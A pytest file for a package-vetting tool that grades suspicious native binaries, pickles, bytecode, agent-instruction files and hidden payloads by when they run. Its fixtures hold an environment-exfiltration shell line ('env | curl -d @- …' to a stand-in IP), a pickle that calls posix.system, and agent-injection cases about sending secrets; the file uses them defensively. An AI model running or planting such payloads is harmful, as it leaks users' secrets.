"""The detectors of files that are not Python: how grave what is, by what stands together and by when it runs."""

from __future__ import annotations

import marshal
from collections.abc import Iterable
from importlib.util import MAGIC_NUMBER

import pytest

from stockade.model.findings import Severity
from stockade.model.locations import Location
from stockade.model.vetting import Detection, Phase
from stockade.vetter.acts import Act, Kind, Origin, Taint
from stockade.vetter.detectors import agent_instructions, bytecode, hidden_payload, native, pickles
from stockade.vetter.detectors.reach import Reach, settled
from stockade.vetter.files import registry
from stockade.vetter.files.bytecode import missing_from
from stockade.vetter.package import FileInfo, Metadata, Oddity, Package

DETECTORS = (
    native.DETECTOR,
    pickles.DETECTOR,
    bytecode.DETECTOR,
    agent_instructions.DETECTOR,
    hidden_payload.DETECTOR,
)


def package(  # noqa: PLR0913 - a keyword for each part of a package
    files: dict[str, str],
    *,
    acts: Iterable[Act] = (),
    oddities: Iterable[Oddity] = (),
    kind: str = "wheel",
    phases: dict[str, Phase] | None = None,
    name: str = "decoy",
) -> Package:
    """A package of files by path and kind."""
    infos = {
        path: FileInfo(path=path, size=1, sha256="", kind=each, phase=(phases or {}).get(path, Phase.NEVER))
        for path, each in files.items()
    }
    contents = {path: b"x = 1\n" for path, each in files.items() if each == "python"}
    return Package(
        kind=kind,
        metadata=Metadata(name=name, version="1.0"),
        files=infos,
        acts=tuple(acts),
        oddities=tuple(oddities),
        read=contents.__getitem__,
    )


def found(given: Package) -> dict[str, Detection]:
    """The detections by rule."""
    return {each.rule: each for detector in DETECTORS for each in detector.run(given)}


def starts(
    path: str, phase: Phase = Phase.IMPORT, kind: Kind = Kind.SPAWN, callee: str = "subprocess.run"
) -> Act:
    """Python starts or loads a file of the package."""
    at = Location("decoy/__init__.py", 3)
    return Act(
        kind=kind,
        callee=callee,
        at=at,
        phase=phase,
        target=path,
        payload=frozenset({Taint(Origin.OWN_FILE, path, at)}),
    )


def odd(kind: str, path: str, evidence: str = "") -> Oddity:
    return Oddity(kind=kind, at=Location(path), detail=f"fact of {kind}", evidence=evidence)


MODULE = "decoy/_x.abi3.so"
INIT = {"decoy/__init__.py": "python"}


@pytest.mark.parametrize(
    ("kinds", "severity"),
    [
        ((), None),
        (("native-executable",), None),
        (("native-capabilities",), None),
        (("native-paths",), None),
        (("native-overlay",), None),
        (("native-address",), Severity.LOW),
        (("native-packed",), Severity.MEDIUM),
        (("native-interposes",), Severity.MEDIUM),
        (("native-gpu-library",), Severity.MEDIUM),
        (("native-disguised",), Severity.HIGH),
        (("native-address", "native-capabilities"), Severity.HIGH),
        (("native-address", "native-paths"), Severity.HIGH),
        (("native-interposes", "native-capabilities"), Severity.HIGH),
    ],
)
def test_native_code_by_conjunction(kinds: tuple[str, ...], severity: Severity | None) -> None:
    given = package({"decoy/helper": "elf"}, oddities=[odd(kind, "decoy/helper") for kind in kinds])
    detection = found(given).get("STK-E140")
    assert (detection.severity if detection is not None else None) is severity


def test_an_imported_module_makes_it_critical() -> None:
    files = {**INIT, MODULE: "elf"}
    oddities = [odd("native-address", MODULE), odd("native-paths", MODULE)]
    by_import = package(files, oddities=oddities, phases={"decoy/__init__.py": Phase.IMPORT})
    assert found(by_import)["STK-E140"].severity is Severity.CRITICAL
    assert found(by_import)["STK-E140"].phase is Phase.IMPORT
    alone = package({MODULE: "elf"}, oddities=oddities, kind="sdist")
    assert found(alone)["STK-E140"].severity is Severity.MEDIUM


def test_the_gpu_vendors_own_library_is_its_own() -> None:
    given = package(
        {"libcuda.so.1": "elf"}, oddities=[odd("native-gpu-library", "libcuda.so.1")], name="nvidia-decoy"
    )
    assert not found(given)


@pytest.mark.parametrize(
    ("phase", "severity"),
    [
        (Phase.INSTALL, Severity.HIGH),
        (Phase.IMPORT, Severity.HIGH),
        (Phase.COMMAND, None),
        (Phase.CALL, None),
    ],
)
def test_a_shipped_program_that_starts(phase: Phase, severity: Severity | None) -> None:
    given = package({**INIT, "decoy/helper": "elf"}, acts=[starts("decoy/helper", phase)])
    detection = found(given).get("STK-E141")
    assert (detection.severity if detection is not None else None) is severity


def test_a_shipped_program_named_by_its_path() -> None:
    at = Location("setup.py", 3)
    act = Act(
        kind=Kind.SPAWN, callee="os.system", at=at, phase=Phase.INSTALL, target="…/decoy/helper --quiet"
    )
    assert "STK-E141" in found(package({"decoy/helper": "elf"}, acts=[act]))


PICKLE = "decoy/m.pkl"


def pickled(*, calls: bool) -> tuple[list[Act], list[Oddity]]:
    looked = registry.look(
        "pickle", PICKLE, b"cposix\nsystem\n(S'echo decoy'\ntR." if calls else b"cposix\nsystem\n."
    )
    assert looked is not None
    return list(looked.acts), list(looked.oddities)


@pytest.mark.parametrize(
    ("calls", "phase", "kind", "severity"),
    [
        (True, Phase.IMPORT, "wheel", Severity.CRITICAL),
        (True, Phase.CALL, "wheel", Severity.HIGH),
        (True, None, "wheel", Severity.HIGH),
        (True, None, "sdist", Severity.MEDIUM),
        (False, None, "wheel", Severity.MEDIUM),
    ],
)
def test_pickles_by_phase(*, calls: bool, phase: Phase | None, kind: str, severity: Severity) -> None:
    acts, oddities = pickled(calls=calls)
    if phase is not None:
        acts.append(starts(PICKLE, phase, Kind.LOAD, "pickle.load"))
    detection = found(package({**INIT, PICKLE: "pickle"}, acts=acts, oddities=oddities, kind=kind))[
        "STK-E142"
    ]
    assert detection.severity is severity
    assert bool(detection.chain) is calls or phase is not None


def test_a_pickle_among_tests_is_a_fixture() -> None:
    given = package({"tests/m.pkl": "pickle"}, oddities=[odd("pickle-imports", "tests/m.pkl")], kind="sdist")
    assert found(given)["STK-E142"].severity is Severity.INFO


@pytest.mark.parametrize(
    ("files", "rule"),
    [
        ({"decoy/b.pyc": "pyc"}, "STK-E144"),
        ({"decoy/b.py": "python", "decoy/__pycache__/b.cpython-311.pyc": "pyc"}, "STK-E145"),
        ({"decoy/__pycache__/b.cpython-311.pyc": "pyc"}, ""),
    ],
)
def test_compiled_python(files: dict[str, str], rule: str) -> None:
    path = next(each for each, kind in files.items() if kind == "pyc")
    evidence = "urlopen\nenviron\nx\n\nhttp://192.0.2.7/c"
    detections = found(package(files, oddities=[odd("pyc", path, evidence)]))
    assert list(detections) == ([rule] if rule else [])


def test_compiled_from_its_source() -> None:
    files = {"decoy/b.py": "python", "decoy/__pycache__/b.cpython-311.pyc": "pyc"}
    assert not found(package(files, oddities=[odd("pyc", "decoy/__pycache__/b.cpython-311.pyc", "x\n\n")]))


@pytest.mark.parametrize(
    ("path", "details", "severity"),
    [
        (
            "CLAUDE.md",
            ("tells an agent to send secrets", "tells an agent to keep something from its user"),
            Severity.HIGH,
        ),
        ("CLAUDE.md", ("tells an agent to send secrets",), Severity.MEDIUM),
        ("README.md", ("tells an agent to drop its instructions",), Severity.LOW),
    ],
)
def test_words_to_agents(path: str, details: tuple[str, ...], severity: Severity) -> None:
    oddities = [Oddity(kind="agent-injection", at=Location(path, 1), detail=each) for each in details]
    assert found(package({path: "text"}, oddities=oddities))["STK-E146"].severity is severity


def test_a_payload_that_code_reads() -> None:
    files = {**INIT, "decoy/w.txt": "text"}
    oddity = odd("payload-encoded", "decoy/w.txt")
    assert found(package(files, oddities=[oddity]))["STK-E148"].severity is Severity.HIGH
    read = starts("decoy/w.txt", Phase.IMPORT, Kind.READ, "open")
    detection = found(package(files, oddities=[oddity], acts=[read]))["STK-E148"]
    assert (detection.severity, detection.phase, len(detection.chain)) == (Severity.CRITICAL, Phase.IMPORT, 2)


SCRIPT = "decoy/note.sh"


def harm() -> list[Act]:
    looked = registry.look("shell", SCRIPT, b"env | curl -d @- http://192.0.2.7\n")
    assert looked is not None
    return list(looked.acts)


@pytest.mark.parametrize(
    ("phase", "severity"),
    [(Phase.INSTALL, Severity.CRITICAL), (Phase.IMPORT, Severity.HIGH), (Phase.CALL, None)],
)
def test_a_shipped_script_that_steals(phase: Phase, severity: Severity | None) -> None:
    detection = found(package({**INIT, SCRIPT: "shell"}, acts=[*harm(), starts(SCRIPT, phase)])).get(
        "STK-E149"
    )
    assert (detection.severity if detection is not None else None) is severity
    if detection is not None:
        assert detection.chain[0].role == "source"
        assert detection.chain[-1].role == "sink"


def test_acts_of_files_take_the_phase_in_which_they_are_started() -> None:
    given = settled(package({**INIT, SCRIPT: "shell"}, acts=[*harm(), starts(SCRIPT, Phase.INSTALL)]))
    assert {act.phase for act in given.acts} == {Phase.INSTALL}
    assert Reach(given).phase("decoy/__init__.py") is Phase.NEVER


def test_a_file_of_another_package_is_not_reached() -> None:
    at = Location("decoy/__init__.py", 3)
    act = Act(kind=Kind.SPAWN, callee="os.system", at=at, phase=Phase.INSTALL, target="ls")
    assert Reach(package({SCRIPT: "shell"}, acts=[act])).phase(SCRIPT) is Phase.NEVER


@pytest.mark.parametrize("module", ["pkg.py", "annotated.py"])
def test_what_the_compiler_makes_of_a_source_does_not_differ_from_it(module: str) -> None:
    text = (
        "from __future__ import annotations\nfrom . import helper\nX: int = helper.f([n for n in (1, 2)])\n"
    )
    source = text if module == "annotated.py" else ""
    data = MAGIC_NUMBER + bytes(12) + marshal.dumps(compile(source, module, "exec"))
    looked = registry.look("pyc", f"__pycache__/{module}c", data)
    assert looked is not None
    (oddity,) = looked.oddities
    assert missing_from(source.encode(), oddity.evidence) == ((), False)
